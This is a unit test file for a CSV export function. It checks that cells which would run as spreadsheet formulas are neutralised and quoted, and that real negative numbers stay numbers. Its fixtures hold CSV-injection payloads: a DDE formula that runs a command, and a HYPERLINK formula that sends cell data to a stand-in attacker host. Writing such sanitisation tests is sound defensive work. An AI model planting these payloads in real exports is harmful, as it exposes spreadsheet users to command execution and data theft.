import { describe, expect, it } from 'vitest';
import { toCsv } from './tabular.js';

describe('CSV answers', () => {
  it('neutralise and quote text cells a spreadsheet would run as formulas', () => {
    const csv = toCsv([
      {
        name: "=cmd|' /C calc'!A0",
        source: { document: '=HYPERLINK("http://evil.example/?x="&A1,"click me")' },
        note: '-2+3',
        plain: 'BR',
      },
    ]);
    const lines = csv.trim().split('\n');
    expect(lines[1]).toBe(
      `"'=cmd|' /C calc'!A0","'=HYPERLINK(""http://evil.example/?x=""&A1,""click me"")","'-2+3",BR`,
    );
  });

  it('write numbers as numbers: a negative number is data, not a formula', () => {
    const csv = toCsv([{ change: -3, share: -0.25, label: '-3' }]);
    expect(csv.trim().split('\n')[1]).toBe(`-3,-0.25,"'-3"`);
  });
});
